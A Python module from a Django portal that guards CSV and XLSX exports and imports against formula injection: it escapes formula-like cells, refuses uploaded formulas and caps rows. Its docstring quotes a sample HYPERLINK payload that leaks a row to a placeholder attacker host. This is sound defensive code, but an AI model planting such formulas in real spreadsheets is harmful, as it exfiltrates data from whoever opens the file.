"""Every CSV and XLSX the portal writes holds text as text (OWASP "CSV injection").

A cell whose text begins with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is taken for a formula
by Excel and LibreOffice: a disclosure titled ``=HYPERLINK("http://evil.example/?x="&A2,"Xem")`` would be a
live link that leaks the row to whoever opens the open-data file. One rule, two forms:

- CSV (and any text format): ``safe_cell`` prefixes such text with an apostrophe, OWASP's advice; readers
  of the portal's own files take it off again (``unsafe_cell``).
- XLSX written with openpyxl: ``xlsx_append`` keeps the text exactly but types the cell as a string with
  Excel's own "quote prefix" (what typing ``'=1+2`` in Excel stores), so the value reads back unchanged —
  the consolidated XLSX is read back by consolidation.imports — and stays text when someone edits the cell.
  (openpyxl, left alone, makes every str beginning with "=" a formula cell.)

django-import-export's admin exports go through ``SafeCSV``/``SafeXLSX`` (settings.IMPORT_EXPORT_FORMATS),
so every resource is covered without each one remembering to be.
"""

from __future__ import annotations

import datetime
import io
from collections.abc import Iterable

from django.conf import settings
from django.utils import timezone
from django.utils.translation import gettext as _

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


class SpreadsheetRefused(ValueError):
    """An uploaded spreadsheet refused before import; ``message`` is Vietnamese and shown as is."""

    def __init__(self, message: str) -> None:
        self.message = message
        super().__init__(message)


def too_many_rows_message(max_rows: int) -> str:
    return _("Tệp có hơn %(max)s dòng dữ liệu: hãy chia nhỏ tệp hoặc chỉ giữ các dòng cần cập nhật.") % {
        "max": max_rows
    }


def is_formula_like(value: object) -> bool:
    return isinstance(value, str) and value.startswith(FORMULA_TRIGGERS)


def safe_cell(value: object) -> object:
    """The value to write into a CSV cell: text that a spreadsheet would run gets a leading apostrophe;
    numbers, dates and other text are unchanged."""
    return f"'{value}" if is_formula_like(value) else value


def unsafe_cell(value: object) -> object:
    """The inverse of safe_cell, for reading back a file the portal wrote (or one edited from it)."""
    if isinstance(value, str) and value.startswith("'") and is_formula_like(value[1:]):
        return value[1:]
    return value


def safe_row(values: Iterable[object]) -> list[object]:
    return [safe_cell(v) for v in values]


def safe_dict(row: dict) -> dict:
    return {key: safe_cell(value) for key, value in row.items()}


def xlsx_text(cell) -> None:
    """Make an openpyxl cell holding formula-like text a plain (quote-prefixed) string cell."""
    if is_formula_like(cell.value):
        cell.data_type = "s"
        cell.quotePrefix = True


def xlsx_append(sheet, values: Iterable[object]) -> None:
    """``sheet.append(values)`` with text kept as text (see the module's docstring)."""
    sheet.append(list(values))
    for cell in sheet[sheet.max_row]:
        xlsx_text(cell)


# --- django-import-export formats ---------------------------------------------------------------------

from import_export.formats import base_formats  # noqa: E402 - after the helpers they use


class SafeCSV(base_formats.CSV):
    def export_data(self, dataset, **kwargs):
        import tablib

        safe = tablib.Dataset(headers=safe_row(dataset.headers or []))
        for row in dataset:
            safe.append(safe_row(row))
        return super().export_data(safe, **kwargs)

    def create_dataset(self, in_stream, **kwargs):
        dataset = super().create_dataset(in_stream, **kwargs)
        return _restored(dataset)


def _restored(dataset):
    import tablib

    if len(dataset) > settings.IMPORT_MAX_ROWS:
        raise SpreadsheetRefused(too_many_rows_message(settings.IMPORT_MAX_ROWS))
    out = tablib.Dataset(headers=[unsafe_cell(h) for h in dataset.headers or []])
    for row in dataset:
        out.append([unsafe_cell(v) for v in row])
    return out


def _xlsx_value(value: object) -> object:
    if isinstance(value, datetime.datetime) and timezone.is_aware(value):
        return timezone.make_naive(value)  # openpyxl cannot store an offset
    return value


class SafeXLSX(base_formats.XLSX):
    """Written by openpyxl through xlsx_append; read bounded (archive checked, rows capped, formulas refused)."""

    def export_data(self, dataset, **kwargs):
        from openpyxl import Workbook
        from openpyxl.styles import Font

        book = Workbook()
        sheet = book.active
        sheet.title = (dataset.title or "Sheet1")[:31]
        if dataset.headers:
            xlsx_append(sheet, dataset.headers)
            for cell in sheet[1]:
                cell.font = Font(bold=True)
            sheet.freeze_panes = "A2"
        for row in dataset:
            xlsx_append(sheet, (_xlsx_value(v) for v in row))
        out = io.BytesIO()
        book.save(out)
        return out.getvalue()

    def create_dataset(self, in_stream):
        import tablib
        from openpyxl import load_workbook

        from .safe_files import ArchiveRefused, archive_check

        try:
            archive_check(in_stream, required="xl/workbook.xml")
        except ArchiveRefused as exc:
            raise SpreadsheetRefused(exc.message) from exc
        book = load_workbook(io.BytesIO(in_stream), read_only=True, data_only=False)
        rows = book.active.iter_rows()
        dataset = tablib.Dataset()
        dataset.headers = [cell.value for cell in next(rows, ())]
        max_rows = settings.IMPORT_MAX_ROWS
        for row_no, cells in enumerate(rows, start=2):
            if row_no - 1 > max_rows:
                raise SpreadsheetRefused(too_many_rows_message(max_rows))  # reading stops here
            if any(getattr(cell, "data_type", None) == "f" for cell in cells):
                raise SpreadsheetRefused(_("Ô chứa công thức, hãy dán giá trị (dòng %(row)s).") % {"row": row_no})
            values = [cell.value for cell in cells]
            if any(v not in (None, "") for v in values):
                dataset.append(values)
        return _restored(dataset)


FORMATS = [SafeCSV, SafeXLSX]
